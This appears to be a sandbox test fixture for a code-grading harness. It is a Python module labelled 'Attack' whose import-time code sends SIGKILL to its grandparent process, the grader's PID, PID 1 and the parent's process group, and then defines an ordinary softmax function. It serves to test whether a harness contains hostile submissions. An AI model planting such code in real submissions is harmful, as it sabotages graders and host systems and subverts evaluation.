"""Attack: SIGKILLs the grandparent (read from /proc), the grader's pid, pid 1, and the parent's
process group, at import.

needs: namespaces-or-root
expect: contained
policy: refused
"""
import torch

os = torch.os


def _ppid_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        stat = f.read()
    return int(stat[stat.rfind(")") + 2:].split()[1])


targets = []
try:
    targets.append(_ppid_of(os.getppid()))
except (OSError, ValueError):
    pass
targets += [__GRADER_PID__, 1]
for pid in targets:
    try:
        os.kill(pid, 9)
    except OSError:
        pass
try:
    os.killpg(os.getpgid(os.getppid()), 9)
except OSError:
    pass


def softmax(X, dim=-1):
    e = (X - X.amax(dim=dim, keepdim=True)).exp()
    return e / e.sum(dim=dim, keepdim=True)
